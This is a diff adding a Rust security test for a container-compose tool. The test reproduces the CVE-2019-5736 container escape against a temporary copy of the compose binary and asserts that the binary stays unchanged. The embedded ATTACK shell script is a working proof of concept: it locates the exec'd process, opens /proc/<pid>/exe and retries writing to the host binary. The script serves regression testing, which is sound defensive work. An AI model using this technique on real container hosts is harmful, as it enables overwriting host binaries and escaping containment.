@@ -1,1 +1,251 @@
-//! See the list in `tests/security.rs`.
+//! See the list in `tests/security.rs`: the host binary reached from a container
+//! (CVE-2019-5736), descriptors leaked into containers (CVE-2024-21626 class), sysctls, and the
+//! masking device (CVE-2025-31133).
+
+use std::os::fd::{AsRawFd, OwnedFd};
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::require_engine;
+use crate::support::{
+    self,
+    engine::{ok, text, Fixture},
+};
+
+/// `compose ARGS` run from `exe` (instead of the binary under test's own path), with the
+/// fixture's root, project, cgroup parent and stand-in host network namespace.
+fn compose_at(f: &Fixture, exe: &Path, args: &[&str]) -> Command {
+    let mut c = Command::new(exe);
+    if let Some(ns) = &f.netns {
+        let fd = ns.as_raw_fd();
+        // SAFETY: setns is async-signal-safe; the descriptor stays open in the parent.
+        unsafe {
+            c.pre_exec(move || {
+                if libc::setns(fd, libc::CLONE_NEWNET) != 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+                Ok(())
+            });
+        }
+    }
+    c.current_dir(&f.project_dir)
+        .env("COMPOSE_ROOT", &f.root)
+        .env("COMPOSE_CGROUP_PARENT", &f.cgroup_parent)
+        .env("COMPOSE_PROJECT_NAME", &f.project)
+        .args(args)
+        .stdin(Stdio::null());
+    c
+}
+
+/// A pipe whose buffer is full: a process writing to its write end blocks until the read end is
+/// drained.
+fn full_pipe() -> (OwnedFd, OwnedFd) {
+    use rustix::fs::OFlags;
+    let (r, w) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC).expect("pipe");
+    rustix::fs::fcntl_setfl(&w, OFlags::NONBLOCK).expect("nonblocking");
+    let chunk = [b'.'; 4096];
+    loop {
+        match rustix::io::write(&w, &chunk) {
+            Ok(_) => continue,
+            Err(rustix::io::Errno::AGAIN) => break,
+            Err(e) => panic!("filling a pipe: {e}"),
+        }
+    }
+    // Blocking again for the writer (the flag belongs to the open file, which it shares).
+    rustix::fs::fcntl_setfl(&w, OFlags::empty()).expect("blocking");
+    (r, w)
+}
+
+/// Waits for `child` at most `limit`; kills it (and fails) past that.
+fn wait_at_most(child: &mut std::process::Child, limit: Duration) -> std::process::Output {
+    let start = Instant::now();
+    loop {
+        if child.try_wait().expect("try_wait").is_some() {
+            break;
+        }
+        if start.elapsed() > limit {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("compose did not finish within {limit:?}");
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let mut out = std::process::Output {
+        status: child.wait().expect("wait"),
+        stdout: Vec::new(),
+        stderr: Vec::new(),
+    };
+    use std::io::Read;
+    if let Some(mut s) = child.stdout.take() {
+        let _ = s.read_to_end(&mut out.stdout);
+    }
+    if let Some(mut s) = child.stderr.take() {
+        let _ = s.read_to_end(&mut out.stderr);
+    }
+    out
+}
+
+/// Polls `path` until it holds `line` (or `limit` passes); its content.
+fn wait_for_line(path: &Path, line: &str, limit: Duration) -> String {
+    let start = Instant::now();
+    loop {
+        let s = std::fs::read_to_string(path).unwrap_or_default();
+        if s.lines().any(|l| l == line) || start.elapsed() > limit {
+            return s;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// Copies of the shared libraries `exe` needs (from `ldd`), as `host:container:ro` volume
+/// entries, so that a busybox container can run it.
+fn library_volumes(exe: &Path, into: &Path) -> Vec<String> {
+    let out = Command::new("ldd").arg(exe).output().expect("run ldd");
+    let text = String::from_utf8_lossy(&out.stdout);
+    if text.contains("not a dynamic executable") || text.contains("statically linked") {
+        return Vec::new();
+    }
+    assert!(out.status.success(), "ldd {}: {text}", exe.display());
+    std::fs::create_dir_all(into).expect("library dir");
+    let mut vols = Vec::new();
+    for line in text.lines() {
+        // `libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)` or `/lib64/ld-linux... (0x...)`.
+        let path = match line.split_once("=>") {
+            Some((_, rest)) => rest.split_whitespace().next(),
+            None => line.split_whitespace().next(),
+        };
+        let Some(path) = path.filter(|p| p.starts_with('/')) else {
+            continue;
+        };
+        let name = Path::new(path).file_name().expect("library file name");
+        let copy = into.join(name);
+        std::fs::copy(path, &copy).unwrap_or_else(|e| panic!("copy {path}: {e}"));
+        vols.push(format!("{}:{path}:ro", copy.display()));
+    }
+    vols
+}
+
+/// Waits in the container for the process that runs the script `/kit/evil` (an executable other
+/// than busybox: whatever binary the script's `#!/proc/self/exe` named), keeps a descriptor on
+/// that binary through `/proc/<pid>/exe` and then tries, as runc's proof of concept does, to
+/// write to the binary until it is no longer busy (the test lets the process end once the
+/// descriptor is held). Every step is logged to /out/result.
+const ATTACK: &str = r#"
+log() { echo "$*" >> /out/result; }
+start=$(date +%s)
+pid=
+while [ -z "$pid" ]; do
+  if [ $(( $(date +%s) - start )) -gt 60 ]; then log "timeout"; break; fi
+  for d in /proc/[0-9]*; do
+    exe=$(busybox readlink $d/exe 2>/dev/null) || continue
+    case "$exe" in ''|/bin/busybox) continue;; esac
+    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
+      *evil*) pid=${d#/proc/}; log "exe $exe"; break;;
+    esac
+  done
+  [ -n "$pid" ] || sleep 0.02
+done
+if [ -n "$pid" ] && command exec 5< /proc/$pid/exe; then log opened; else log "not opened"; fi
+n=0
+while [ -n "$pid" ] && [ $n -lt 300 ]; do
+  if printf pwned 2>/tmp/err > /proc/self/fd/5; then log written; break; fi
+  # Only a busy binary (ETXTBSY) is worth another try.
+  grep -qi busy /tmp/err || break
+  n=$((n + 1))
+  sleep 0.05
+done
+log "last error: $(cat /tmp/err 2>/dev/null)"
+log done
+"#;
+
+/// CVE-2019-5736 through `compose exec`: the container holds a script whose interpreter is
+/// `#!/proc/self/exe`, and `compose exec` runs it, so the exec'd process runs whatever binary
+/// started it; a second process in the container opens that binary through `/proc/<pid>/exe`
+/// and writes to it once it is released. The attack is aimed at a copy of `compose` in the
+/// test's temp dir, which runs the `exec`: the copy must come out unchanged, and the binary the
+/// container saw must not be it.
+#[test]
+fn cve_2019_5736_exec_of_a_proc_self_exe_script_cannot_overwrite_the_compose_binary() {
+    require_engine!();
+    let scratch = tempfile::Builder::new()
+        .prefix("compose-test-exe-")
+        .tempdir()
+        .expect("temp dir");
+    let copy = scratch.path().join("compose");
+    std::fs::copy(env!("CARGO_BIN_EXE_compose"), &copy).expect("copy the binary");
+    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    let original = std::fs::read(&copy).expect("read the copy");
+    let libs = library_volumes(&copy, &scratch.path().join("lib"));
+
+    let mut yaml = String::from(
+        "services:\n  app:\n    image: busybox\n    command: [sh, -c, 'sh /kit/attack.sh & exec sleep 1000']\n    volumes:\n      - ./kit:/kit:ro\n      - ./out:/out\n",
+    );
+    for v in &libs {
+        yaml.push_str(&format!("      - {v}\n"));
+    }
+    let mut f = Fixture::new(&yaml);
+    let kit = f.project_dir.join("kit");
+    std::fs::create_dir_all(&kit).expect("kit");
+    std::fs::create_dir_all(f.project_dir.join("out")).expect("out");
+    std::fs::write(kit.join("attack.sh"), ATTACK).expect("attack.sh");
+    std::fs::write(kit.join("evil"), "#!/proc/self/exe\n").expect("evil");
+    std::fs::set_permissions(kit.join("evil"), std::fs::Permissions::from_mode(0o755))
+        .expect("chmod evil");
+    ok(&f, &["up", "-d", "app"]);
+
+    // The script runs with a full pipe as its standard error, so the binary it starts blocks
+    // on its first message until the attacker holds it; then the pipe is drained.
+    let (err_r, err_w) = full_pipe();
+    let mut child = compose_at(&f, &copy, &["exec", "-T", "app", "/kit/evil"])
+        .stdout(Stdio::piped())
+        .stderr(err_w)
+        .spawn()
+        .expect("spawn compose exec");
+    let result_path = f.project_dir.join("out/result");
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(60) {
+        let r = std::fs::read_to_string(&result_path).unwrap_or_default();
+        if r.lines()
+            .any(|l| ["opened", "not opened", "timeout"].contains(&l))
+        {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let drain = std::thread::spawn(move || {
+        use std::io::Read;
+        let mut buf = Vec::new();
+        let _ = std::fs::File::from(err_r).read_to_end(&mut buf);
+        buf
+    });
+    let exec_out = wait_at_most(&mut child, Duration::from_secs(60));
+    let exec_err = drain.join().expect("drain");
+    let result = wait_for_line(&result_path, "done", Duration::from_secs(30));
+    ok(&f, &["down", "-t", "0"]);
+
+    let now = std::fs::read(&copy).expect("read the copy");
+    assert!(
+        now == original,
+        "the container overwrote the compose binary ({} bytes now, {} before)\nattack log:\n{result}",
+        now.len(),
+        original.len()
+    );
+    assert!(
+        result.lines().any(|l| l == "opened"),
+        "the attack never reached the exec'd binary, so it proves nothing\nattack log:\n{result}\nexec: {}\n{}",
+        text(&exec_out),
+        String::from_utf8_lossy(&exec_err[exec_err.len().saturating_sub(2000)..])
+    );
+    assert!(
+        !result.lines().any(|l| l == "written"),
+        "the write went through:\n{result}"
+    );
+    assert!(
+        !result.contains(&copy.display().to_string()),
+        "/proc/<pid>/exe in the container is the host binary itself:\n{result}"
+    );
+    f.assert_clean();
+}
